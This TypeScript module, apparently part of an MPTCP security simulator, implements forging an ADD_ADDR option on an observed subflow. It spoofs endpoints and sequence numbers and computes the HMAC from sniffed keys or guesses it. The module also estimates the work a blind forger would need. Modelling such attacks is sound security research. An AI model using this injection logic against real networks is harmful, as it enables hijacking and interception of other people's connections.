/**
 * Forging an ADD_ADDR on a subflow the attacker saw, as if the victim's
 * peer sent it (RFC 7430 §2, RFC 6181 §5): the next sequence numbers it saw,
 * and RFC 8684's HMAC when the hosts check one — computed from both keys if
 * it read them, guessed otherwise. v0 hosts (without the add-addr-hmac
 * what-if, which it notices on the wire) check nothing.
 */
import { hex64 } from '../core/hex.ts';
import { addAddrHmac } from '../crypto/mptcp-crypto.ts';
import { formatEndpoint, formatIp, type IpAddress } from '../wire/ip-address.ts';
import type { AddAddr } from '../wire/mptcp/types.ts';
import { TCP_FLAG } from '../wire/tcp-header.ts';
import type { TcpOption } from '../wire/tcp-options.ts';
import { craftSegment } from './craft.ts';
import type { KnownConnection } from './knowledge.ts';
import type { Endpoint } from './relay.ts';
import type { AttackContext } from './strategy.ts';

const PORTS = 60999 - 32768 + 1;
const WINDOW = 6 * 1024 * 1024;

/** A subflow it saw both ways, the most recently active first. */
export function busiestConnection(ctx: AttackContext): KnownConnection | null {
  let best: KnownConnection | null = null;
  let when = -1;
  for (const c of ctx.knowledge.connections.values()) {
    const { toServer, toClient } = ctx.knowledge.flowsOf(c);
    if (!toServer || !toClient) continue;
    const t = Math.max(toServer.lastSeenUs, toClient.lastSeenUs);
    if (t > when) {
      best = c;
      when = t;
    }
  }
  return best;
}

/**
 * Sends the forged ADD_ADDR for `address` to the `victim` end of the
 * busiest subflow it knows. Returns the peer the victim believes announced
 * it, or null when it knows no subflow.
 */
export function forgeAddAddr(ctx: AttackContext, address: IpAddress, addressId: number, victim: 'client' | 'server'): Endpoint | null {
  const kb = ctx.knowledge;
  const c = busiestConnection(ctx);
  if (!c) {
    ctx.act({ kind: 'attacker-gives-up', note: 'has seen no subflow to forge an ADD_ADDR on: it would have to guess the port and sequence numbers (see expected guesses)' });
    return null;
  }
  const { toServer, toClient } = kb.flowsOf(c);
  const victimIsClient = victim === 'client';
  const toVictim = victimIsClient ? toClient! : toServer!;
  const fromVictim = victimIsClient ? toServer : toClient;
  const version = kb.versions.get(c.key) ?? (ctx.protocol === 'mptcp-v0' ? 0 : 1);
  // v1 always; v0 too if it saw the hosts use RFC 8684's ADD_ADDR (the add-addr-hmac what-if).
  const withHmac = version === 1 || kb.addAddrHmacSeen.has(c.key);
  const pair = kb.keyPairs.get(c.key);
  const senderKey = victimIsClient ? pair?.server : pair?.client;
  const receiverKey = victimIsClient ? pair?.client : pair?.server;
  let option: AddAddr;
  let guess = false;
  let how: string;
  if (!withHmac) {
    option = { kind: 'add-addr', version: 0, echo: false, addressId, address, reserved: 0 };
    how = 'v0: no HMAC to forge';
  } else if (senderKey !== undefined && receiverKey !== undefined) {
    const hmac = addAddrHmac(senderKey, receiverKey, addressId, address, undefined, ctx.addAddrMac);
    option = { kind: 'add-addr', version: 1, echo: false, addressId, address, reserved: 0, hmac };
    how = `with the HMAC ${hex64(hmac)} it computed from both keys read in the handshake`;
  } else {
    const hmac = ctx.rng.u64();
    option = { kind: 'add-addr', version: 1, echo: false, addressId, address, reserved: 0, hmac };
    guess = true;
    how = `with a guessed HMAC ${hex64(hmac)} (it does not know the keys)`;
  }
  const options: TcpOption[] = [];
  if (toVictim.tsVal !== null) options.push({ kind: 'timestamps', tsval: (toVictim.tsVal + 1) >>> 0, tsecr: fromVictim?.tsVal ?? 0 });
  options.push(option);
  const bytes = craftSegment({ src: toVictim.src, dst: toVictim.dst, srcPort: toVictim.srcPort, dstPort: toVictim.dstPort, seq: toVictim.nextSeq, ack: fromVictim?.nextSeq ?? toVictim.ack, flags: TCP_FLAG.ACK, window: toVictim.window, options });
  ctx.inject(bytes, `ADD_ADDR ${formatIp(address)} (ID ${addressId}) to ${formatEndpoint(toVictim.dst, toVictim.dstPort)} as ${formatEndpoint(toVictim.src, toVictim.srcPort)}, ${how}`, { guess });
  return victimIsClient ? c.server : c.client;
}

/** What a blind forger would need: the port, an in-window sequence number, and in v1 the HMAC. */
export function addAddrGuesses(ctx: AttackContext): { guesses: number; why: string } {
  const inWindow = Math.ceil(2 ** 32 / WINDOW);
  const v0 = ctx.protocol === 'mptcp-v0' && ![...ctx.knowledge.addAddrHmacSeen].length;
  return v0
    ? { guesses: PORTS * inWindow, why: `${PORTS} client ports × ${inWindow} in-window sequence numbers: a v0 ADD_ADDR carries no HMAC` }
    : { guesses: PORTS * inWindow * 2 ** 64, why: `${PORTS} client ports × ${inWindow} in-window sequence numbers × 2^64 truncated HMACs (RFC 8684's ADD_ADDR HMAC)` };
}
